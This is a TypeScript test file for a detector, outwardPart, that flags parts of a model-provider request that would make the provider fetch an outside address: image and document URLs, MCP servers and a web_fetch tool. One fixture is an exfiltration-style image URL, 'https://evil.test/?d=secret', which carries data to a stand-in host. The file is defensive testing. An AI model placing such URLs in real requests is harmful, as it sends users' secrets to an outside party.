import { expect, test } from 'vitest'
import { outwardPart } from '../../shared/domain/outward-request.ts'

const withContent = (block: unknown) => ({ messages: [{ role: 'user', content: [{ type: 'tool_result', content: [block] }] }] })

test('a request that makes the provider reach an address is told, wherever that stands', () => {
  expect(outwardPart(withContent({ type: 'image', source: { type: 'url', url: 'https://evil.test/?d=secret' } }))).toBe('an image that the provider would fetch')
  expect(outwardPart(withContent({ type: 'document', source: { type: 'url', url: 'https://evil.test/' } }))).toBe('an address of a document that the provider would fetch')
  expect(outwardPart({ mcp_servers: [{ type: 'url', url: 'https://evil.test/' }], messages: [] })).toBe('MCP servers that the provider would call')
  expect(outwardPart({ tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }], messages: [] })).toBe("the provider's tool web_fetch_20250910")
})

test('what stays between the agent and the model passes: text, images in the request, its own tools, a search', () => {
  expect(outwardPart(withContent({ type: 'image', source: { type: 'base64', data: 'aaaa' } }))).toBe(null)
  expect(outwardPart({ tools: [{ name: 'Bash', input_schema: {} }, { type: 'web_search_20250305', name: 'web_search' }], mcp_servers: [], messages: [{ role: 'user', content: 'see https://x.test' }] })).toBe(null)
  expect(outwardPart({ messages: [{ role: 'assistant', content: [{ type: 'tool_use', name: 'x', input: { source: { type: 'url' } } }] }] })).toBe(null)
  expect(outwardPart(null)).toBe(null)
})
